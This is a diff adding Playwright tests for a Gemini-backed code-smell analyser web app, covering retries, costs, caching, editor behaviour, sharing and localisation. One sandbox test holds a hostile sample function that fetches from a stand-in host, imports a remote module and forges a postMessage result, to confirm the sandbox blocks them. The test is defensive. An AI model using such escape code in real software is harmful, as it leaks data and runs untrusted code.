+  expect(requests[0].url).toContain('/models/gemini-2.5-pro:');
+  expect(requests[0].headers['x-goog-api-key']).toBe('key-from-settings');
+  expect(requests[0].body.generationConfig).toMatchObject({ temperature: 0.2, max_output_tokens: 2048 });
+
+  // Resetting goes back to config.json, which is still missing
+  await page.locator('#settings-btn').click();
+  await expect(page.locator('#settings-model')).toHaveValue('gemini-2.5-pro');
+  await page.locator('#settings-reset-btn').click();
+  await expect(page.locator('#error-message')).toContainText('Could not load config.json');
+});
+
+test('retry and cancel: a rate limit is retried after the requested delay, and Cancel stops an analysis', async ({ page }) => {
+  await mockConfig(page);
+  let attempts = 0;
+  let answer   = true;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    attempts += 1;
+    if (attempts === 1) {
+      return route.fulfill({
+        status: 429,
+        contentType: 'application/json',
+        body: JSON.stringify({
+          error: { code: 429, details: [{ '@type': 'type.googleapis.com/google.rpc.RetryInfo', retryDelay: '2s' }] },
+        }),
+      });
+    }
+    // Left unanswered to simulate a slow model
+    if (!answer) return undefined;
+    return route.fulfill(geminiReply(MOCK_ANALYSIS));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  // The 429 is not shown as an error; the indicator counts down to the retry
+  await expect(page.locator('#loading-text')).toContainText('Rate limited — retry 1 of 3 in 2 s');
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  expect(attempts).toBe(2);
+  await expect(page.locator('#error-banner')).toBeHidden();
+
+  // Cancel ends the wait at once, keeping the local findings
+  answer = false;
+  await page.locator('#code-input').fill(`${SMELLY_CODE}\n`);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#loading-indicator')).toBeVisible();
+  await page.locator('#cancel-btn').click();
+  await expect(page.locator('#loading-indicator')).toBeHidden();
+  await expect(page.locator('#error-banner')).toBeHidden();
+  await expect(page.locator('#summary-text')).toContainText('Local rule checks found 2 smells');
+  await expect(page.locator('#analyze-btn')).toBeEnabled();
+});
+
+test('token usage: each analysis and reply shows its tokens and cost, and large prompts ask first', async ({ page }) => {
+  await mockConfig(page, {
+    input_token_budget: 50,
+    prices: { 'gemini-2.5-flash-lite': { input: 1, output: 2 } },
+  });
+  let requests = 0;
+  let chatContext;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests += 1;
+    const body   = route.request().postDataJSON();
+    const isChat = !body.generationConfig;
+    if (isChat) chatContext = body.contents[0].parts[0].text;
+    return route.fulfill(geminiReply(isChat ? 'Use a parameter object.' : MOCK_ANALYSIS, {
+      usageMetadata: isChat
+        ? { promptTokenCount: 2000, candidatesTokenCount: 100, totalTokenCount: 2100 }
+        : { promptTokenCount: 1000, candidatesTokenCount: 234, totalTokenCount: 1234 },
+    }));
+  });
+
+  // Every prompt exceeds the 50-token budget: decline once, then accept
+  const dialogs = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    return dialogs.length === 1 ? dialog.dismiss() : dialog.accept();
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+
+  // Declined: nothing is sent, the local findings stay
+  await expect(page.locator('#summary-text')).toContainText('Local rule checks found 2 smells');
+  expect(dialogs[0]).toContain('above the budget of 50 tokens. Send it anyway?');
+  expect(requests).toBe(0);
+  await expect(page.locator('#usage-badge')).toBeHidden();
+  await expect(page.locator('#session-usage')).toBeHidden();
+
+  // At $1 in / $2 out per million tokens: 1,000 × 1 + 234 × 2 = $0.0015
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  expect(requests).toBe(1);
+  await expect(page.locator('#usage-badge')).toHaveText('1,234 tokens (1,000 in · 234 out) · ~$0.0015');
+  await expect(page.locator('#session-usage')).toHaveText('Session: 1,234 tokens · ~$0.0015');
+
+  // The reply shows its own usage, and the session adds it up
+  await page.locator('#chat-input').fill('How do I fix the parameters?');
+  await page.locator('#chat-send-btn').click();
+  await expect(page.locator('.chat-message.gemini .chat-usage'))
+    .toHaveText('2,100 tokens (2,000 in · 100 out) · ~$0.0022');
+  await expect(page.locator('#session-usage')).toHaveText('Session: 3,334 tokens · ~$0.0037');
+  expect(dialogs).toHaveLength(3);
+  // The chat context carries the analysis, not the session's bookkeeping
+  expect(chatContext).toContain('"Long Parameter List"');
+  expect(chatContext).not.toContain('"usage"');
+  expect(chatContext).not.toContain('"source"');
+});
+
+test('response cache: analysing the same code again is answered from the cache until re-run fresh', async ({ page }) => {
+  await mockConfig(page);
+  let requests = 0;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests += 1;
+    return route.fulfill(geminiReply(MOCK_ANALYSIS, {
+      usageMetadata: { promptTokenCount: 1000, candidatesTokenCount: 234, totalTokenCount: 1234 },
+    }));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await expect(page.locator('#cached-badge')).toBeHidden();
+  expect(requests).toBe(1);
+
+  // Same code, language and model: no request, no tokens, labelled as cached
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#cached-badge')).toBeVisible();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await expect(page.locator('#usage-badge')).toBeHidden();
+  expect(requests).toBe(1);
+
+  // The cache survives a reload
+  await page.reload();
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#cached-badge')).toBeVisible();
+  expect(requests).toBe(1);
+
+  // A different language is a different prompt
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#usage-badge')).toBeVisible();
+  await expect(page.locator('#cached-badge')).toBeHidden();
+  expect(requests).toBe(2);
+
+  // Re-run fresh asks the model again
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#cached-badge')).toBeVisible();
+  await page.locator('#rerun-fresh-btn').click();
+  await expect(page.locator('#cached-badge')).toBeHidden();
+  await expect(page.locator('#usage-badge')).toHaveText(/^1,234 tokens/);
+  expect(requests).toBe(3);
+});
+
+test('behaviour check: original and refactored JavaScript are run on sample inputs and divergences flagged', async ({ page }) => {
+  const original   = 'function sign(n) {\n  if (n > 0) return 1;\n  if (n < 0) return -1;\n  return 0;\n}\n';
+  const refactored = 'const sign = (n) => (n > 0 ? 1 : -1);\n';
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const prompt = route.request().postDataJSON().contents[0].parts[0].text;
+    const reply  = prompt.includes('Propose sample inputs')
+      ? { function: 'sign', inputs: ['[5]', '[-3]', '[0]', '["x"]'] }
+      : { summary: 'Shorter.', smells: [], refactored_code: refactored };
+    return route.fulfill(geminiReply(reply));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(original);
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#equivalence-panel')).toBeVisible();
+  await expect(page.locator('#equivalence-function')).toHaveValue('sign');
+
+  // Inputs that are not JSON arrays are rejected before anything runs
+  await page.locator('#equivalence-inputs').fill('[5]\nfive');
+  await page.locator('#equivalence-run-btn').click();
+  await expect(page.locator('#error-message')).toContainText('Sample input line 2 is not a JSON array');
+
+  // The model proposes inputs; two of them expose the dropped zero case
+  await page.locator('#equivalence-suggest-btn').click();
+  await expect(page.locator('#equivalence-inputs')).toHaveValue('[5]\n[-3]\n[0]\n["x"]');
+  await page.locator('#equivalence-run-btn').click();
+
+  await expect(page.locator('#equivalence-status')).toHaveText('2 of 4 cases differ');
+  await expect(page.locator('#equivalence-results-body tr')).toHaveCount(4);
+  await expect(page.locator('#equivalence-results-body tr.different')).toHaveCount(2);
+  await expect(page.locator('#equivalence-results-body tr').nth(2).locator('td'))
+    .toHaveText(['0', '0', '-1', '✗ Differs']);
+  await expect(page.locator('#equivalence-flag')).toHaveText('⚠ Behaviour differs in 2 of 4 cases');
+});
+
+test('behaviour check: the code under test cannot reach the network or report a result of its own', async ({ page }) => {
+  const original   = 'function sign(n) {\n  return n > 0 ? 1 : 0;\n}\n';
+  const refactored = [
+    'function sign(n) {',
+    '  const globals = Object.getPrototypeOf(self);',
+    '  globals.fetch?.("https://leak.example.test/fetch");',
+    '  globals.postMessage?.call(self, { kind: "return", value: "1" });',
+    '  import("https://leak.example.test/module.js").catch(() => {});',
+    '  return 2;',
+    '}',
+  ].join('\n');
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) =>
+    route.fulfill(geminiReply({ summary: 'Same.', smells: [], refactored_code: refactored }))
+  );
+  let leaked = 0;
+  await page.context().route(/leak\.example\.test/, (route) => {
+    leaked += 1;
+    return route.abort();
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(original);
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#analyze-btn').click();
+  await page.locator('#equivalence-inputs').fill('[5]');
+  await page.locator('#equivalence-run-btn').click();
+
+  // The forged "1" never arrives: the refactored code's own result is compared
+  await expect(page.locator('#equivalence-status')).toHaveText('1 of 1 case differ');
+  await expect(page.locator('#equivalence-results-body tr td'))
+    .toHaveText(['5', '1', '2', '✗ Differs']);
+  expect(leaked).toBe(0);
+});
+
+test('syntax check: refactored code that does not parse is sent back once, and a remaining error is shown', async ({ page }) => {
+  const code   = 'def area(r):\n    return 3.14 * r * r\n';
+  const broken = { summary: 'Magic number.', smells: [], refactored_code: 'import math\n\ndef area(r):\nreturn math.pi * r * r\n' };
+  const fixed  = { ...broken, refactored_code: 'import math\n\ndef area(r):\n    return math.pi * r * r\n' };
+  let replies  = [broken, broken];
+
+  await mockConfig(page);
+  const prompts = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    prompts.push(route.request().postDataJSON().contents[0].parts[0].text);
+    return route.fulfill(geminiReply(replies.shift()));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(code);
+  await page.locator('#analyze-btn').click();
+
+  // The correction request quotes the parser error; it is still broken, so
+  // the error is shown with its line and column, and the line is marked
+  const message = 'line 4, column 1: Expected an indented block after line 3';
+  await expect(page.locator('#syntax-error')).toHaveText(`Syntax error in the refactored code at ${message}`);
+  expect(prompts).toHaveLength(2);
+  expect(prompts[1]).toContain(message);
+  await page.locator('#view-toggle [data-view="files"]').click();
+  await expect(page.locator('#refactored-code .code-line[data-line="4"]')).toHaveClass(/syntax-error-line/);
+
+  // The broken result was not cached: the same code is sent to the model again
+  replies = [fixed];
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#refactored-code')).toContainText('    return math.pi * r * r');
+  await expect(page.locator('#syntax-error')).toBeHidden();
+  await expect(page.locator('#cached-badge')).toBeHidden();
+  expect(prompts).toHaveLength(3);
+
+  // A corrected response replaces the broken one
+  replies = [broken, fixed];
+  await page.locator('#code-input').fill(`${code}\n`);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#refactored-code')).toContainText('    return math.pi * r * r');
+  await expect(page.locator('#syntax-error')).toBeHidden();
+  expect(prompts).toHaveLength(5);
+
+  // An apostrophe in JSX text is not an unterminated string: no correction
+  const banner = "function Banner() {\n  return <p>Don't panic</p>;\n}\n";
+  replies = [{ summary: 'Fine.', smells: [], refactored_code: banner }];
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#code-input').fill(banner);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#refactored-code')).toContainText("Don't panic");
+  await expect(page.locator('#syntax-error')).toBeHidden();
+  expect(prompts).toHaveLength(6);
+});
+
+test('code editor: line numbers, indentation keys, and smell markers in the gutter until the code changes', async ({ page }) => {
+  const code = 'def total(items):\n    result = 0\n    for item in items:\n        result += item.price\n    return result\n';
+  const analysis = {
+    summary: 'Two smells.',
+    smells: [
+      { name: 'Temporary Variable', severity: 'Minor', location: 'line 2', start_line: 2, end_line: 2, explanation: 'x' },
+      { name: 'Manual Loop', severity: 'Major', location: 'lines 2–4', start_line: 2, end_line: 4, explanation: 'x' },
+    ],
+    refactored_code: 'def total(items):\n    return sum(item.price for item in items)\n',
+  };
+  await mockConfig(page);
+  await page.route(/generativelanguage\.googleapis\.com/, (route) =>
+    route.fulfill(geminiReply(analysis))
+  );
+
+  await page.goto('/src/');
+  const input  = page.locator('#code-input');
+  const gutter = page.locator('#code-editor-gutter .gutter-line');
+  await expect(gutter).toHaveText(['1']);
+
+  await page.locator('#language-select').selectOption('Python');
+  await input.fill(code);
+  await expect(gutter).toHaveCount(6);
+  await expect(page.locator('#code-editor-code')).toContainText('result += item.price');
+
+  // Each smelly line gets the most severe smell's marker and a squiggle
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('2 smells found');
+  await expect(gutter.nth(1)).toHaveClass(/marker-major/);
+  await expect(gutter.nth(1)).toHaveAttribute('title', 'Temporary Variable, Manual Loop');
+  await expect(gutter.nth(3)).toHaveClass(/marker-major/);
+  await expect(gutter.nth(4)).not.toHaveClass(/marker/);
+  await expect(page.locator('#code-editor-code .code-line').nth(2)).toHaveClass(/squiggle-major/);
+
+  // Enter keeps the indentation and indents after a colon; Tab and
+  // Shift+Tab indent and outdent. Editing removes the stale markers.
+  await input.focus();
+  await page.keyboard.press('Control+End');
+  await page.keyboard.type('    if result:');
+  await page.keyboard.press('Enter');
+  await expect(input).toHaveValue(`${code}    if result:\n        `);
+  await expect(gutter.nth(1)).not.toHaveClass(/marker/);
+  await page.keyboard.press('Shift+Tab');
+  await expect(input).toHaveValue(`${code}    if result:\n    `);
+  await page.keyboard.press('Tab');
+  await expect(input).toHaveValue(`${code}    if result:\n        `);
+  await expect(page.locator('#char-count')).toHaveText(`${code.length + 23} / 20,000`);
+
+  // Escape releases Tab, so keyboard users can leave the editor
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('Tab');
+  await expect(input).not.toBeFocused();
+  await expect(input).toHaveValue(`${code}    if result:\n        `);
+});
+
+test('share link: the analysis and chat open read-only from the link alone, and long ones download as a file', async ({ page, context }) => {
+  const mockRoutes = async (target, calls) => {
+    await mockConfig(target);
+    await target.route(/generativelanguage\.googleapis\.com/, (route) => {
+      calls.push(route.request().url());
+      const isChat = !route.request().postDataJSON().generationConfig;
+      return route.fulfill(geminiReply(isChat ? 'Pass an options object.' : MOCK_ANALYSIS));
+    });
+  };
+  await mockRoutes(page, []);
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await page.locator('#chat-input').fill('How do I shorten the parameter list?');
+  await page.locator('#chat-send-btn').click();
+  await expect(page.locator('#chat-log')).toContainText('Pass an options object.');
+
+  await page.locator('#share-btn').click();
+  const link = await page.locator('#share-link').inputValue();
+  expect(link).toMatch(/\/src\/#share=1\.[\w-]+$/);
+
+  // The link restores everything without a single API call
+  const viewer = await context.newPage();
+  const viewerCalls = [];
+  await mockRoutes(viewer, viewerCalls);
+  await viewer.goto(link);
+  await expect(viewer.locator('#shared-banner')).toBeVisible();
+  await expect(viewer.locator('#smell-count-badge')).toHaveText('3 smells found');
+  await expect(viewer.locator('#code-input')).toHaveValue(SMELLY_CODE);
+  await expect(viewer.locator('#chat-log')).toContainText('How do I shorten the parameter list?');
+  await expect(viewer.locator('#chat-log')).toContainText('Pass an options object.');
+  await expect(viewer.locator('#code-input')).toHaveJSProperty('readOnly', true);
+  await expect(viewer.locator('#analyze-btn')).toBeDisabled();
+  await expect(viewer.locator('#chat-input')).toBeDisabled();
+  expect(viewerCalls).toHaveLength(0);
+
+  // Leaving the shared view starts a fresh session
+  await viewer.locator('#shared-close-btn').click();
+  await expect(viewer.locator('#shared-banner')).toBeHidden();
+  await expect(viewer.locator('#code-input')).toHaveValue('');
+  await expect(viewer.locator('#code-input')).toHaveJSProperty('readOnly', false);
+  expect(new URL(viewer.url()).hash).toBe('');
+
+  // Code that does not compress well makes a link too long to share
+  let seed = 1;
+  const random = () => (seed = (seed * 48271) % 2147483647).toString(36);
+  const bulky = Array.from({ length: 1500 }, () => `x = "${random()}"`).join('\n').slice(0, 19000);
+  await page.locator('#code-input').fill(bulky);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#original-code')).toContainText(bulky.slice(0, 20));
+  const download = page.waitForEvent('download');
+  await page.locator('#share-btn').click();
+  expect((await download).suggestedFilename()).toMatch(/^shared-analysis-.*\.html$/);
+  await expect(page.locator('#share-status')).toContainText('downloaded as a file');
+
+  // The file holds the analysis itself and opens when picked in the app
+  await viewer.locator('#file-input').setInputFiles(await (await download).path());
+  await expect(viewer.locator('#shared-banner')).toBeVisible();
+  await expect(viewer.locator('#code-input')).toHaveValue(bulky);
+  expect(viewerCalls).toHaveLength(0);
+});
+
+test('refactor until clean: each round re-analyses the refactored code, and any round can be picked', async ({ page }) => {
+  const original = 'def total(prices):\n    result = 0\n    for price in prices:\n        result = result + price\n    return result\n';
+  const second   = 'def total(prices):\n    result = 0\n    for price in prices:\n        result += price\n    return result\n';
+  const clean    = 'def total(prices):\n    return sum(prices)\n';
+  const accumulation = {
+    name: 'Manual Accumulation', severity: 'Major', location: 'lines 2–5',
+    explanation: 'The loop re-implements sum().',
+  };
+  const replyFor = (prompt) => {
+    if (prompt.includes('sum(prices)')) return { summary: 'Clean.', smells: [], refactored_code: clean };
+    if (prompt.includes('+= price'))   return { summary: 'Still a loop.', smells: [accumulation], refactored_code: clean };
+    return {
+      summary: 'A manual loop.',
+      smells: [accumulation, {
+        name: 'Verbose Assignment', severity: 'Minor', location: 'line 4', explanation: 'Use +=.',
+      }],
+      refactored_code: second,
+    };
+  };
+
+  await mockConfig(page);
+  let requests = 0;
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    requests += 1;
+    const reply = replyFor(route.request().postDataJSON().contents[0].parts[0].text);
+    return route.fulfill(geminiReply(reply));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#code-input').fill(original);
+
+  // Two rounds allowed: a Major smell is left when the limit is hit
+  await page.locator('#refine-max-rounds').fill('2');
+  await page.locator('#refine-btn').click();
+  await expect(page.locator('#rounds-status')).toHaveText('Round limit reached — 1 Major or worse left');
+  const rounds = page.locator('#rounds-list .round');
+  await expect(rounds).toHaveCount(2);
+  await expect(rounds.first().locator('.severity-badge.major')).toHaveText('1 major');
+  await expect(rounds.first().locator('.severity-badge.minor')).toHaveText('1 minor');
+  await expect(rounds.nth(1).locator('.severity-badge.minor')).toHaveText('0 minor');
+  expect(requests).toBe(2);
+
+  // The last round is the result: its code in the input, refactored below
+  await expect(rounds.nth(1)).toHaveClass(/current/);
+  await expect(page.locator('#code-input')).toHaveValue(second);
+  await page.locator('#view-toggle [data-view="files"]').click();
+  await expect(page.locator('#refactored-code')).toContainText('return sum(prices)');
+
+  // Three rounds: the first two come from the cache, the third is clean
+  await page.locator('#code-input').fill(original);
+  await page.locator('#refine-max-rounds').fill('3');
+  await page.locator('#refine-btn').click();
+  await expect(page.locator('#rounds-status')).toHaveText('No Major or worse smells after 3 rounds');
+  await expect(rounds).toHaveCount(3);
+  await expect(rounds.nth(2).locator('.severity-badge.zero')).toHaveCount(3);
+  expect(requests).toBe(3);
+
+  // Any round can be picked as the final result
+  await rounds.first().locator('.round-open').click();
+  await expect(rounds.first()).toHaveClass(/current/);
+  await expect(rounds.first()).toContainText('Shown below');
+  await expect(page.locator('#code-input')).toHaveValue(original);
+  await expect(page.locator('#refactored-code')).toContainText('result += price');
+  await expect(page.locator('#smell-count-badge')).toHaveText('2 smells found');
+});
+
+test('quality score: severity weights per line, breakdown by severity and category, and a trend per file', async ({ page }) => {
+  const loop  = 'def total(prices):\n    result = 0\n    for price in prices:\n        result = result + price\n    return result\n';
+  const clean = 'def total(prices):\n    return sum(prices)\n';
+  const other = 'def greeting():\n    return "Hello"\n';
+  const replyFor = (prompt) => {
+    if (prompt.includes('function f(')) return MOCK_ANALYSIS;
+    if (prompt.includes('result = result')) {
+      return {
+        summary: 'A manual loop.',
+        smells: [{ name: 'Manual Accumulation', severity: 'Major', location: 'lines 2–5', explanation: 'Use sum().' }],
+        refactored_code: clean,
+      };
+    }
+    return { summary: 'Clean.', smells: [], refactored_code: prompt.includes('greeting') ? other : clean };
+  };
+
+  await mockConfig(page, { quality_weights: { Critical: 10, Major: 4, Minor: 1 } });
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const reply = replyFor(route.request().postDataJSON().contents[0].parts[0].text);
+    return route.fulfill(geminiReply(reply));
+  });
+
+  await page.goto('/src/');
+  await page.locator('#language-select').selectOption('JavaScript');
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells found');
+
+  // One Major (4) and two Minor (1 each) smells in a one-liner, which counts as 10 lines
+  await expect(page.locator('#quality-score-value')).toHaveText('40');
+  await expect(page.locator('#quality-grade')).toHaveText('Grade E');
+  await expect(page.locator('#quality-score-detail')).toHaveText('6 weighted smell points in 1 line');
+  const severityBars = page.locator('#quality-severity-chart .quality-bar');
+  await expect(severityBars).toHaveCount(3);
+  await expect(severityBars.nth(1)).toHaveAttribute('aria-label', 'Major: 1');
+  await expect(severityBars.nth(2)).toHaveAttribute('aria-label', 'Minor: 2');
+  await expect(page.locator('#quality-category-chart')).toContainText('Bloaters');
+  await expect(page.locator('#quality-category-chart')).toContainText('Dispensables');
+  await expect(page.locator('#quality-category-chart')).toContainText('Naming & Clarity');
+  await expect(page.locator('#quality-trend')).toBeHidden();
+
+  // The score is part of the exported report
+  await page.locator('#report-format').selectOption('markdown');
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.locator('#export-report-btn').click(),
+  ]);
+  const fs = await import('node:fs/promises');
+  expect(await fs.readFile(await download.path(), 'utf8')).toContain('**Quality score:** 40/100 (grade E)');
+
+  // Analysing a project file again adds a point to its trend
+  const upload = (code) => page.locator('#file-input').setInputFiles([
+    { name: 'total.py', mimeType: 'text/plain', buffer: Buffer.from(code) },
+    { name: 'greeting.py', mimeType: 'text/plain', buffer: Buffer.from(other) },
+  ]);
+  await upload(loop);
+  await expect(page.locator('#project-progress')).toHaveText('2 files · 1 smell');
+  await upload(clean);
+  await expect(page.locator('#project-progress')).toHaveText('2 files · 0 smells');
+
+  await page.locator('.project-file-open', { hasText: 'total.py' }).click();
+  await expect(page.locator('#quality-score-value')).toHaveText('100');
+  await expect(page.locator('#quality-trend-caption')).toHaveText('Score over the last 2 analyses of total.py');
+  const points = page.locator('#quality-trend-chart .quality-trend-point');
+  await expect(points).toHaveCount(2);
+  await expect(points.first().locator('.quality-trend-score')).toHaveText('60');
+  await expect(points.nth(1)).toHaveAttribute('aria-current', 'true');
+});
+
+test('interface language: the browser language picks Hebrew right-to-left, replies are asked for in it, and the switch is remembered', async ({ browser, baseURL }) => {
+  const context = await browser.newContext({ baseURL, locale: 'he-IL' });
+  const page    = await context.newPage();
+  await mockConfig(page);
+  const requests = [];
+  await page.route(/generativelanguage\.googleapis\.com/, (route) => {
+    const body = route.request().postDataJSON();
+    requests.push(JSON.stringify(body));
+    return route.fulfill(geminiReply(body.generationConfig ? MOCK_ANALYSIS : 'השתמשו באובייקט פרמטרים.'));
+  });
+
+  await page.goto('/src/');
+  await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
+  await expect(page.locator('html')).toHaveAttribute('lang', 'he');
+  await expect(page.locator('#locale-select')).toHaveValue('he');
+  await expect(page.locator('#analyze-btn')).toHaveText('ניתוח');
+  // Code stays left-to-right inside the right-to-left page
+  await expect(page.locator('.code-editor')).toHaveAttribute('dir', 'ltr');
+
+  await page.locator('#code-input').fill(SMELLY_CODE);
+  await page.locator('#analyze-btn').click();
+  await expect(page.locator('#smell-count-badge')).toHaveText('נמצאו 3 ריחות');
+  // Canonical smell names are kept; labels around them are translated
+  const cards = page.locator('.smell-card');
+  await expect(cards.first()).toContainText('Long Parameter List');
+  await expect(cards.first().locator('.smell-source')).toHaveText('כלל + מודל');
+  await expect(cards.first().locator('.severity-badge')).toContainText('חמור');
+  expect(requests[0]).toContain('Write summary and every explanation in Hebrew');
+
+  await page.locator('#chat-input').fill('איך מתקנים את הפרמטרים?');
+  await page.locator('#chat-send-btn').click();
+  await expect(page.locator('.chat-message.gemini')).toContainText('השתמשו באובייקט פרמטרים.');
+  expect(requests[1]).toContain('respond in plain Hebrew');
+
+  // Switching re-renders the open analysis and survives a reload
+  await page.locator('#locale-select').selectOption('es');
+  await expect(page.locator('html')).toHaveAttribute('dir', 'ltr');
+  await expect(page.locator('#smell-count-badge')).toHaveText('3 smells encontrados');
+  await expect(cards.first().locator('.smell-source')).toHaveText('Regla + Modelo');
+  await page.reload();
+  await expect(page.locator('#locale-select')).toHaveValue('es');
+  await expect(page.locator('#analyze-btn')).toHaveText('Analizar');
+
+  await page.locator('#locale-select').selectOption('en');
+  await expect(page.locator('#analyze-btn')).toHaveText('Analyze');
+  await context.close();
+});